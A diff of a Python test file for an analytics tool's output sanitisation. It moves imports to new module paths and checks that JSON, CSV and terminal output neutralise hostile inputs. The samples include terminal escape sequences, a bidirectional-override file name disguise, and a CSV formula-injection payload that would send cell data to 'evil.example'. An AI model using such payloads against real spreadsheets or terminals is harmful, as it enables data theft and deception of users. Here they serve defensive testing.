@@ -18,13 +18,13 @@ from rich.console import Console
 from typer.testing import CliRunner
 
 from bcp_analytics import migrate as migrations
-from bcp_analytics import render
-from bcp_analytics._visible import visible, visible_json, visible_line
-from bcp_analytics.cli import app
+from bcp_analytics._render import tables
+from bcp_analytics._render.visible import visible, visible_json, visible_line
+from bcp_analytics.cli._app import app
 from bcp_analytics.errors import BcpAnalyticsError
-from bcp_analytics.proxy import say as proxy_say
-from bcp_analytics.report import terminal
-from bcp_analytics.report.collect import Section, Total, collect
+from bcp_analytics.mcp._proxy import say as proxy_say
+from bcp_analytics.report import _terminal
+from bcp_analytics.report._collect import Section, Total, collect
 
 DANGEROUS = frozenset(
     map(
@@ -93,11 +93,11 @@ ROWS = [Row(EVIL, {EVIL: [EVIL]}, -1.5)]
 
 
 def test_json_and_csv_of_rows() -> None:
-    text = render.to_json(ROWS)
+    text = tables.to_json(ROWS)
     assert not dangers(text)
     assert json.loads(text) == [{"name": EVIL, "document": {EVIL: [EVIL]}, "count": -1.5}]
     for spreadsheet in (False, True):
-        text = render.to_csv(ROWS, Row, spreadsheet=spreadsheet)
+        text = tables.to_csv(ROWS, Row, spreadsheet=spreadsheet)
         assert dangers(text) == {"\r"}
         assert text.count("\r") == text.count("\r\n") == 2
         [_, row] = list(csv.reader(io.StringIO(text, newline="")))
@@ -106,13 +106,13 @@ def test_json_and_csv_of_rows() -> None:
 
 def test_a_table_and_its_cells() -> None:
     console = Console(width=400, file=io.StringIO(), color_system=None)
-    console.print(render.to_table(ROWS, Row)[0])
+    console.print(tables.to_table(ROWS, Row)[0])
     text = console.file.getvalue()  # type: ignore[attr-defined]
     assert not dangers(text)
     assert r"\x1b[2J\x1b]0;title\x07\x9b31m" in text
     assert r"\u202egnp.exe\u2066\u2028fake\u2029\x85\x7f\x0d" in text
     assert not any(
-        dangers(cell) for column in render.to_cells(ROWS, ("name", "document")) for cell in column.cells
+        dangers(cell) for column in tables.to_cells(ROWS, ("name", "document")) for cell in column.cells
     )
 
 
@@ -121,13 +121,13 @@ def test_a_spreadsheet_runs_no_formula(start: str) -> None:
     text = start + 'HYPERLINK("http://evil.example?"&A1,"x")'
     rows = [Row(text, {}, -1.5), Row("a=1", {}, 2)]
     plain, quoted = (
-        list(csv.reader(io.StringIO(render.to_csv(rows, Row, spreadsheet=s), newline="")))
+        list(csv.reader(io.StringIO(tables.to_csv(rows, Row, spreadsheet=s), newline="")))
         for s in (False, True)
     )
     assert plain[1][0] == visible(text)
     assert quoted[1] == ["'" + visible(text), "{}", "-1.5"]
     assert quoted[2] == ["a=1", "{}", "2"]
-    assert render.csv_rows(["=1"], [], spreadsheet=True) == "'=1\r\n"
+    assert tables.csv_rows(["=1"], [], spreadsheet=True) == "'=1\r\n"
 
 
 # ---- the command line
@@ -202,7 +202,7 @@ def test_the_reports_own_words(evil_db: str) -> None:
     report.totals.append(Total("x", EVIL, EVIL))
     report.sections.append(Section("x", [], (), "nothing", EVIL))
     console = Console(width=120, file=io.StringIO(), color_system=None)
-    terminal.show(report, console)
+    _terminal.show(report, console)
     assert not dangers(console.file.getvalue())  # type: ignore[attr-defined]
 
 
